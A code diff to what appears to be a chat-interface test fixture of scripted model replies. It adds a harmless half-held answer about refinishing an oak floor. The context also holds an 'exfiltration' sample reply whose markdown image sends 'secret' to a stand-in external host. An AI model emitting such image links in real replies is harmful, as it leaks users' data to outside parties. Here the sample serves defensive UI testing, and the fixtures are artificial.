@@ -15,7 +15,13 @@ export const exfiltrationQuestion = 'Show me a picture of the finished accent wa
 export const exfiltrationAnswer =
   'Here is the finished wall: ![x](https://elsewhere.example/p.png?d=secret)';
 
+/** A reply the model holds half written until the test releases it (a reload mid-answer). */
+export const heldQuestion = 'Slow answer please: how do I refinish an oak floor?';
+export const heldAnswer =
+  '## Refinish an oak floor\n\nPlan for a weekend and good ventilation.\n\n1. Empty the room and sand with 36, 60 and 100 grit\n2. Vacuum and tack the dust\n3. Stain if you want a new colour\n4. Brush on three thin coats of polyurethane';
+
 export const scriptedConversations: ModelScript[] = [
+  { when: heldQuestion, steps: [{ text: heldAnswer, holdAfterWords: 8 }] },
   { when: exfiltrationQuestion, steps: [{ text: exfiltrationAnswer }] },
   {
     when: 'Bedroom repaint',
